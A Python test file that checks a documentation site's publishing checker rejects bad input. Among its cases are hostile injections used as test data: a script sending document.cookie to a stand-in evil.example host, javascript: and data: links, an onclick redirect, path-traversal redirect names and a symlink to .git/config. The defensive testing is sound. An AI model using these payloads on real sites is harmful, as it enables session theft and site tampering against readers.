"""The publishing path refuses bad input: the checker, `make publish` and `make offline`.

A table of bad inputs (issue 14: the ones that were silently accepted, and more), each put into a
copy of the project whose local.yml holds real-looking values (tests/fixtures/settings/real.yml).
Each must stop with exactly one error line `file:line: rule: message` in words an editor understands,
exit non-zero (the checker 1; make reports a failed step with 2), build nothing, and leave docs/ as it was.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from tests.conftest import REAL_SETTINGS, copy_project
VENV = Path(sys.executable).parent.parent


class Copy:
    """A throwaway project to break one thing in."""

    def __init__(self, root: Path):
        self.root = root

    def read(self, rel: str) -> str:
        return (self.root / rel).read_text(encoding="utf-8")

    def write(self, rel: str, text: str) -> None:
        (self.root / rel).parent.mkdir(parents=True, exist_ok=True)
        (self.root / rel).write_text(text, encoding="utf-8")

    def append(self, rel: str, text: str) -> int:
        """Adds text after a blank line at the end of the page; returns the line it starts on."""
        old = self.read(rel).rstrip("\n") + "\n\n"
        self.write(rel, old + text + "\n")
        return old.count("\n") + 1

    def add_redirect(self, entry: str) -> int:
        """Adds an entry under redirects.yml's `redirects:` (short addresses follow it); returns its line."""
        lines = self.read("redirects.yml").split("\n")
        at = next(number for number, line in enumerate(lines) if line.startswith("redirects:"))
        lines[at] = "redirects:"  # `redirects: {}` when there is none yet
        lines.insert(at + 1, entry)
        self.write("redirects.yml", "\n".join(lines))
        return at + 2

    def set_line(self, rel: str, pattern: str, new: str) -> int:
        """Replaces the first line matching pattern (a regex) with new; returns its line number."""
        lines = self.read(rel).split("\n")
        for number, line in enumerate(lines, 1):
            if re.search(pattern, line):
                lines[number - 1] = new
                self.write(rel, "\n".join(lines))
                return number
        raise AssertionError(f"{pattern!r} not in {rel}")

    def line_of(self, rel: str, pattern: str) -> int:
        for number, line in enumerate(self.read(rel).split("\n"), 1):
            if re.search(pattern, line):
                return number
        raise AssertionError(f"{pattern!r} not in {rel}")


@dataclass
class Case:
    name: str
    breaks: Callable[[Copy], str]  # puts the bad input in, returns the one error line expected

    def __str__(self) -> str:
        return self.name


PAGE = "docs/en/privacy.md"
SV_PAGE = "docs/sv/privacy.md"


def _description_with_colon(p: Copy) -> str:
    line = p.set_line(PAGE, r"^description:", "description: Privacy: what this site does with your information")
    return (f"{PAGE}:{line}: front-matter/invalid-yaml: the front matter is not valid YAML: a value with a colon in it needs quotes "
            'around it, like: description: "Privacy: what this site does with your information"')


def _unclosed_quote(p: Copy) -> str:
    line = p.set_line(PAGE, r"^title:", 'title: "Privacy')
    return (f"{PAGE}:{line}: front-matter/invalid-yaml: the front matter is not valid YAML: "
            'a quote (") opens here and never closes: end the value with " on the same line')


def _overdue_review(p: Copy) -> str:
    import datetime

    past = (datetime.date.today() - datetime.timedelta(days=61)).isoformat()
    line = p.set_line(PAGE, r"^next_review:", f"next_review: {past}")
    return (f"{PAGE}:{line}: front-matter/review-overdue: next_review {past} is more than 60 days past: "
            "check the page against its sources, then set last_reviewed and a new next_review")


def _redirect_over_the_crisis_page(p: Copy) -> str:
    line = p.add_redirect("  x/../get-help-now.md: about.md")
    return ("redirects.yml:{}: redirects/bad-name: 'x/../get-help-now.md' is not a page file name: write it like what-is-a-cetr.md "
            "(lower case letters, digits and hyphens; no '..', no '/' at the start)").format(line)


def _redirect_outside_the_site(p: Copy) -> str:
    line = p.add_redirect("  ../../../tmp/evil.md: about.md")
    return ("redirects.yml:{}: redirects/bad-name: '../../../tmp/evil.md' is not a page file name: write it like what-is-a-cetr.md "
            "(lower case letters, digits and hyphens; no '..', no '/' at the start)").format(line)


def _redirect_at_a_pages_address(p: Copy) -> str:
    line = p.add_redirect("  get-help-now/index.md: about.md")
    return f"redirects.yml:{line}: redirects/page-still-exists: 'get-help-now/index.md' still exists in docs/en/: remove the page or the redirect"


def _redirects_unclosed_quote(p: Copy) -> str:
    line = p.add_redirect("  old-page.md: 'about.md")
    return (f"redirects.yml:{line}: redirects/invalid-file: not valid YAML: a quote (') opens here and never closes: "
            "end the value with ' on the same line")


def _duplicate_key(p: Copy) -> str:
    first = p.line_of("local.yml", r"^    phone: ")
    lines = p.read("local.yml").split("\n")
    lines.insert(first, "    phone: 0300 123 4567")
    p.write("local.yml", "\n".join(lines))
    return (f"local.yml:{first + 1}: settings/duplicate-key: 'contacts.icb.phone' is given twice, on line {first} and line {first + 1}: "
            "only the last would count; keep one")


def _token_in_value(p: Copy) -> str:
    line = p.set_line("local.yml", r"^area_name:", 'area_name: "{{ local.local_offer.name }}"')
    return (f"local.yml:{line}: settings/token-in-value: 'area_name' has a token {{{{ local.local_offer.name }}}} in it, "
            "which would show as it is: write the text itself (tokens work in pages only)")


def _http_contact_url(p: Copy) -> str:
    line = p.line_of("local.yml", r"^    url: https://")
    p.write("local.yml", p.read("local.yml").replace("    url: https://", "    url: http://", 1))
    return (f"local.yml:{line}: settings/insecure-url: 'contacts.icb.url' starts with http://: use its https:// address, "
            "so that nobody can change the page on its way to a family")


def _http_site_url(p: Copy) -> str:
    line = p.set_line("local.yml", r"^site_url:", "site_url: http://cetr.kentish.gov.uk/")
    return (f"local.yml:{line}: settings/insecure-url: 'site_url' starts with http://: use its https:// address, "
            "so that nobody can change the page on its way to a family")


def _international_example_number(p: Copy) -> str:
    line = p.set_line("local.yml", r"^    phone: ", '    phone: "+44 1632 960005"')
    return (f"local.yml:{line}: settings/example-value: 'contacts.icb.phone' still has its example value '+44 1632 960005': "
            "put in your own before publishing")


def _impossible_date(p: Copy) -> str:
    line = p.set_line(PAGE, r"^next_review:", "next_review: 2027-02-30")
    return f"{PAGE}:{line}: front-matter/bad-date: 'next_review' is not a real date: 2027-02-30"


def _javascript_source(p: Copy) -> str:
    line = p.set_line(PAGE, r"^    url: ", "    url: javascript:alert(document.cookie)")
    return f"{PAGE}:{line}: front-matter/invalid-value: 'sources[1].url': 'javascript:alert(document.cookie)' does not match '^https?://'"


def _misspelt_token(p: Copy) -> str:
    line = p.append(PAGE, "Call {{ tel.crisis_line }}.")
    return f"{PAGE}:{line}: settings/unknown-token: unknown token '{{{{ tel.crisis_line }}}}': local.yml has no contact 'crisis_line'"


def _one_example_value(p: Copy) -> str:
    line = p.set_line("local.yml", r"^    phone: ", "    phone: 01632 960005")
    return (f"local.yml:{line}: settings/example-value: 'contacts.icb.phone' still has its example value '01632 960005': "
            "put in your own before publishing")


def _raw_script(p: Copy) -> str:
    line = p.append(PAGE, "<script>fetch('https://evil.example/?' + document.cookie)</script>")
    return f"{PAGE}:{line}: safety/raw-script: <script> is not allowed in a page: a script could do anything to a family's browser"


def _iframe(p: Copy) -> str:
    line = p.append(PAGE, '<iframe src="https://evil.example/"></iframe>')
    return f"{PAGE}:{line}: safety/embedded-frame: <iframe> is not allowed in a page: it would show another website's content inside the page"


def _style(p: Copy) -> str:
    line = p.append(SV_PAGE, "<style>body { display: none }</style>")
    return f"{SV_PAGE}:{line}: safety/raw-style: <style> is not allowed in a page: styles belong in docs/assets/stylesheets/"


def _onclick(p: Copy) -> str:
    line = p.append(PAGE, 'Read <span onclick="location=\'https://evil.example/\'">more about us</span>.')
    return f"{PAGE}:{line}: safety/event-attribute: the attribute onclick= in <span> runs code when a reader uses the page: remove it"


def _javascript_link(p: Copy) -> str:
    line = p.append(PAGE, "Read [our privacy notice](javascript:alert(1)).")
    return (f"{PAGE}:{line}: safety/unsafe-link: link 'javascript:alert(1' starts with javascript: which can run code or hide content: "
            "use a web page, tel:, sms: or mailto: address")


def _data_link(p: Copy) -> str:
    line = p.append(PAGE, "Read [our privacy notice](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).")
    return (f"{PAGE}:{line}: safety/unsafe-link: link 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' starts with data: "
            "which can run code or hide content: use a web page, tel:, sms: or mailto: address")


def _other_host_picture(p: Copy) -> str:
    line = p.append(PAGE, "![A tracking pixel](https://tracker.example.net/pixel.png)")
    return (f"{PAGE}:{line}: safety/other-host-picture: picture 'https://tracker.example.net/pixel.png' loads from another website "
            "(tracker.example.net): copy the picture into docs/assets/pictures/ and link to it there")


def _symlink(p: Copy) -> str:
    os.symlink("../../.git/config", p.root / "docs/assets/config.txt")
    return ("docs/assets/config.txt:1: safety/symlink: 'docs/assets/config.txt' is a symbolic link to ../../.git/config: "
            "the build would publish that file; put a real file here")


def _nul_byte(p: Copy) -> str:
    line = p.append(PAGE, "We do not\x00 track you.")
    return (f"{PAGE}:{line}: safety/nul-byte: the page has a NUL character (byte 0), which no text should have: "
            "the file is damaged or not a page; retype this line")


def _not_utf8(p: Copy) -> str:
    line = p.append(PAGE, "Caf")
    (p.root / PAGE).write_bytes((p.root / PAGE).read_bytes().rstrip(b"\n") + b"\xe9 au lait\n")
    return f"{PAGE}:{line}: page/not-text: the file is not UTF-8 text"


def _huge_page(p: Copy) -> str:
    p.append(PAGE, ("We do not track you. " * 20 + "\n\n") * 600)
    size = (p.root / PAGE).stat().st_size
    return f"{PAGE}:1: safety/page-too-large: the page is {size // 1024} KB, over the limit of 200 KB: split it into smaller pages"


def _file_name(p: Copy) -> str:
    shutil.copy(p.root / "docs/assets/pictures/logo.svg", p.root / "docs/assets/pictures/Our Logo.svg")
    return ("docs/assets/pictures/Our Logo.svg:1: safety/file-name: the name 'Our Logo.svg' has a capital letter, a space or another "
            "character that makes an address hard to type: use lower case letters, digits and hyphens, like 'our-logo.svg'")


def _broken_anchor(p: Copy) -> str:
    line = p.append(PAGE, "Read [what happens at the meeting](the-meeting.md#no-such-part).")
    return f"{PAGE}:{line}: links/missing-anchor: link 'the-meeting.md#no-such-part': there is no section '#no-such-part' on docs/en/the-meeting.md"


def _broken_link(p: Copy) -> str:
    line = p.append(SV_PAGE, "Läs [om mötet](motet.md).")
    return f"{SV_PAGE}:{line}: links/missing-page: link 'motet.md': there is no page docs/sv/motet.md"


CASES = [
    Case("unclosed quote in front matter", _unclosed_quote),
    Case("review more than 60 days overdue", _overdue_review),
    Case("redirect over the crisis page", _redirect_over_the_crisis_page),
    Case("redirect outside the site", _redirect_outside_the_site),
    Case("redirect at a page's address", _redirect_at_a_pages_address),
    Case("unclosed quote in redirects.yml", _redirects_unclosed_quote),
    Case("duplicate key in local.yml", _duplicate_key),
    Case("token inside a local.yml value", _token_in_value),
    Case("http:// contact address", _http_contact_url),
    Case("http:// site_url", _http_site_url),
    Case("+44 example number", _international_example_number),
    Case("broken anchor", _broken_anchor),
    Case("link to a page that does not exist", _broken_link),
    Case("colon in a description", _description_with_colon),
    Case("impossible date", _impossible_date),
    Case("javascript: source", _javascript_source),
    Case("misspelt token", _misspelt_token),
    Case("one example value left", _one_example_value),
    Case("raw script", _raw_script),
    Case("iframe", _iframe),
    Case("style", _style),
    Case("onclick", _onclick),
    Case("javascript: link", _javascript_link),
    Case("data: link", _data_link),
    Case("picture from another host", _other_host_picture),
    Case("symlink to .git/config", _symlink),
    Case("NUL byte", _nul_byte),
    Case("not UTF-8", _not_utf8),
    Case("page over the size limit", _huge_page),
    Case("file name with a space and capitals", _file_name),
]


@pytest.fixture(scope="module")
def real_project(tmp_path_factory) -> Path:
    """The project as a local team's fork has it: real-looking settings, and nothing else changed."""
    return copy_project(tmp_path_factory.mktemp("fork"), REAL_SETTINGS)


def _snapshot(folder: Path) -> dict[str, str]:
    state = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder).as_posix()
        if path.is_symlink():
            state[rel] = "link:" + os.readlink(path)
        elif path.is_file():
            state[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return state


def errors(output: str) -> list[str]:
    """The finding lines that are errors (warnings, the summary and make's own lines left out)."""
    finding = re.compile(r"^[^\s:]+(?: [^\s:]+)*:\d+: [a-z-]+/[a-z-]+: ")
    return [line for line in output.splitlines() if finding.match(line) and ": warning: " not in line]


def run_path(project: Path, path: str) -> subprocess.CompletedProcess:
    env = {key: value for key, value in os.environ.items() if key not in ("CETR_PUBLISH", "CETR_OFFLINE")}
    env["NO_MKDOCS_2_WARNING"] = "1"
    if path == "checker":
        command = [sys.executable, "-m", "scripts.check", "--publish"]
    else:
        # the shared venv, taken as set up (-o: make must not reinstall it from the copy's requirements.txt)
        command = ["make", "--no-print-directory", "-o", f"{VENV}/.installed", f"VENV={VENV}", path]
    return subprocess.run(command, cwd=project, env=env, capture_output=True, text=True, timeout=600)


def test_the_fork_with_real_settings_passes_the_checker(real_project):
    result = run_path(real_project, "checker")
    assert result.returncode == 0 and errors(result.stdout) == [], result.stdout + result.stderr


@pytest.mark.parametrize("path", ["checker", "publish", "offline"])
@pytest.mark.parametrize("case", CASES, ids=str)
def test_bad_input_stops_the_publishing_path(real_project, tmp_path, case, path):
    project = tmp_path / "project"
    shutil.copytree(real_project, project, symlinks=True)
    expected = case.breaks(Copy(project))
    before = _snapshot(project / "docs")
    result = run_path(project, path)
    output = result.stdout + result.stderr
    assert errors(output) == [expected], output[-3000:]
    assert result.returncode == (1 if path == "checker" else 2), output[-3000:]
    assert _snapshot(project / "docs") == before
    assert not (project / "site").exists() and not (project / "site-offline").exists()
    assert "Traceback" not in output
